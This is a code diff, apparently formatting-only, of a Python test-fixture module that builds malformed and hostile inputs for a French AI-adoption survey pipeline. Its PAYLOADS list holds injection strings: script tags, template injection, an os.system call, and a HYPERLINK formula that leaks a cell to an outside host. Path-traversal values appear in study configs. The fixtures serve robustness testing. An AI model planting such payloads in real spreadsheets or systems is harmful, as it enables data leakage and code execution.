@@ -34,8 +34,18 @@ __all__ = [
 ]
 
 HEADER = [
-    "id_repondant", "siren", "raison_sociale", "email_contact", "secteur", "naf_code",
-    "effectif", "departement", "date_reponse", "statut_reponse", "ia_stade", "techno",
+    "id_repondant",
+    "siren",
+    "raison_sociale",
+    "email_contact",
+    "secteur",
+    "naf_code",
+    "effectif",
+    "departement",
+    "date_reponse",
+    "statut_reponse",
+    "ia_stade",
+    "techno",
     "commentaire",
 ]
 GOOD_FILE = "bon.xlsx"
@@ -49,8 +59,8 @@ PAYLOADS = (
     "</style><script>alert(4)</script>",
     "{{ 7*7 }}{% raw %}",
     '"); import os; os.system("touch PWNED")#',
-    "=HYPERLINK(\"http://example.invalid/?q=\"&A1,\"clic\")",
-    "<iframe src=\"https://example.invalid/\"></iframe>",
+    '=HYPERLINK("http://example.invalid/?q="&A1,"clic")',
+    '<iframe src="https://example.invalid/"></iframe>',
     "<link rel=stylesheet href=https://example.invalid/x.css>",
 )
 
@@ -77,12 +87,23 @@ def good_rows(prefix: str = "B", n: int = GOOD_ROWS, start: int = 10_000_000) ->
     stades = ["veille", "experimentation", "deploiement_partiel", "aucun"]
     rows = []
     for i in range(n):
-        rows.append([
-            f"{prefix}{i + 1}", luhn_siren(start + 7919 * i), f"Société {prefix}{i} SA",
-            f"contact{i}@{prefix.lower()}.example.com", "banque", "64.19Z", 40 + i, "59",
-            "2019-05-03", "complet", stades[i % 4], "Analyse de texte (fouille de textes)",
-            None,
-        ])
+        rows.append(
+            [
+                f"{prefix}{i + 1}",
+                luhn_siren(start + 7919 * i),
+                f"Société {prefix}{i} SA",
+                f"contact{i}@{prefix.lower()}.example.com",
+                "banque",
+                "64.19Z",
+                40 + i,
+                "59",
+                "2019-05-03",
+                "complet",
+                stades[i % 4],
+                "Analyse de texte (fouille de textes)",
+                None,
+            ]
+        )
     return rows
 
 
@@ -180,7 +201,9 @@ def truncated_xlsx(raw: Path) -> BadInput:
 
 def corrupt_xlsx(raw: Path) -> BadInput:
     rng = random.Random(1)
-    (raw / "corrompu.xlsx").write_bytes(b"PK\x03\x04" + bytes(rng.randrange(256) for _ in range(4000)))
+    (raw / "corrompu.xlsx").write_bytes(
+        b"PK\x03\x04" + bytes(rng.randrange(256) for _ in range(4000))
+    )
     return BadInput("corrompu.xlsx")
 
 
@@ -272,8 +295,11 @@ def no_header(raw: Path) -> BadInput:
 
 
 def foreign_header(raw: Path) -> BadInput:
-    write_xlsx(raw / "autre_enquete.xlsx", ["Nom", "Prénom", "Âge", "Ville"],
-               [["Dupont", "Jean", 44, "Lille"]])
+    write_xlsx(
+        raw / "autre_enquete.xlsx",
+        ["Nom", "Prénom", "Âge", "Ville"],
+        [["Dupont", "Jean", 44, "Lille"]],
+    )
     return BadInput("autre_enquete.xlsx")
 
 
@@ -426,11 +452,7 @@ def utf16_csv(raw: Path) -> BadInput:
 
 
 def unbalanced_quotes(raw: Path) -> BadInput:
-    text = (
-        "id_repondant;secteur;taille;ia_stade\n"
-        'Q1;banque;pme;"veille\n'
-        "Q2;banque;tpe;aucun\n"
-    )
+    text = 'id_repondant;secteur;taille;ia_stade\nQ1;banque;pme;"veille\nQ2;banque;tpe;aucun\n'
     (raw / "guillemets.csv").write_text(text, encoding="utf-8")
     return BadInput("guillemets.csv")
 
@@ -508,19 +530,30 @@ def header_row_too_far(raw: Path) -> BadInput:
 
 
 def study_typo(raw: Path) -> BadInput:
-    return BadInput(None, study_toml=STUDY_HEAD.replace("region", "regoin") + (
-        f'\n[[sources]]\npath = "data/raw/{GOOD_FILE}"\n'))
+    return BadInput(
+        None,
+        study_toml=STUDY_HEAD.replace("region", "regoin")
+        + (f'\n[[sources]]\npath = "data/raw/{GOOD_FILE}"\n'),
+    )
 
 
 def study_unknown_sector(raw: Path) -> BadInput:
-    return BadInput(None, study_toml=STUDY_HEAD + (
-        f'\n[[sources]]\npath = "data/raw/{GOOD_FILE}"\nsector = "banqe"\n'))
+    return BadInput(
+        None,
+        study_toml=STUDY_HEAD
+        + (f'\n[[sources]]\npath = "data/raw/{GOOD_FILE}"\nsector = "banqe"\n'),
+    )
 
 
 def study_missing_file(raw: Path) -> BadInput:
-    return BadInput(None, study_toml=STUDY_HEAD + (
-        f'\n[[sources]]\npath = "data/raw/{GOOD_FILE}"\n'
-        '\n[[sources]]\npath = "data/raw/absent.xlsx"\n'))
+    return BadInput(
+        None,
+        study_toml=STUDY_HEAD
+        + (
+            f'\n[[sources]]\npath = "data/raw/{GOOD_FILE}"\n'
+            '\n[[sources]]\npath = "data/raw/absent.xlsx"\n'
+        ),
+    )
 
 
 def study_bad_toml(raw: Path) -> BadInput:
@@ -528,20 +561,30 @@ def study_bad_toml(raw: Path) -> BadInput:
 
 
 def study_unknown_profile(raw: Path) -> BadInput:
-    return BadInput(None, study_toml=STUDY_HEAD + (
-        f'\n[[sources]]\npath = "data/raw/{GOOD_FILE}"\nprofile = "limesurvay"\n'))
+    return BadInput(
+        None,
+        study_toml=STUDY_HEAD
+        + (f'\n[[sources]]\npath = "data/raw/{GOOD_FILE}"\nprofile = "limesurvay"\n'),
+    )
 
 
 def study_wave_escape(raw: Path) -> BadInput:
-    return BadInput(None, study_toml=STUDY_HEAD.replace('"2019"', '"../../hors_etude"') + (
-        f'\n[[sources]]\npath = "data/raw/{GOOD_FILE}"\n'))
+    return BadInput(
+        None,
+        study_toml=STUDY_HEAD.replace('"2019"', '"../../hors_etude"')
+        + (f'\n[[sources]]\npath = "data/raw/{GOOD_FILE}"\n'),
+    )
 
 
 def study_sector_escape(raw: Path) -> BadInput:
-    return BadInput(None, study_toml=STUDY_HEAD + (
-        '\n[sectors."../evil"]\nlabel = "x"\nnaf = ["64.19Z"]\n'
-        f'\n[[sources]]\npath = "data/raw/{GOOD_FILE}"\n'))
-
+    return BadInput(
+        None,
+        study_toml=STUDY_HEAD
+        + (
+            '\n[sectors."../evil"]\nlabel = "x"\nnaf = ["64.19Z"]\n'
+            f'\n[[sources]]\npath = "data/raw/{GOOD_FILE}"\n'
+        ),
+    )
 
 
 # --------------------------------------------------------------------------------------------
@@ -587,9 +630,7 @@ def make_hostile_study(repo: Path, destination: Path) -> Path:
     raw = root / "data" / "raw" / "2019"
     book = load_workbook(raw / "banque.xlsx")
     sheet = book["Réponses"]
-    header_row = next(
-        r for r in range(1, 30) if "commentaire" in [c.value for c in sheet[r]]
-    )
+    header_row = next(r for r in range(1, 30) if "commentaire" in [c.value for c in sheet[r]])
     names = {c.value: c.column for c in sheet[header_row]}
     for i, r in enumerate(range(header_row + 1, sheet.max_row + 1)):
         payload = PAYLOADS[i % len(PAYLOADS)]
@@ -607,8 +648,9 @@ def make_hostile_study(repo: Path, destination: Path) -> Path:
 
     sectors = load_dictionary("entreprises").sectors
     text = (root / "study.toml").read_text("utf-8")
-    text = text.replace('path = "data/raw/2019/logiciel.xlsx"',
-                        f"path = {_toml('data/raw/2019/' + HOSTILE_FILE)}")
+    text = text.replace(
+        'path = "data/raw/2019/logiciel.xlsx"', f"path = {_toml('data/raw/2019/' + HOSTILE_FILE)}"
+    )
     head, sources = text.split("[[sources]]", 1)
     head = head.replace(
         'title = "Observatoire régional de l\'intelligence artificielle et des compétences"',
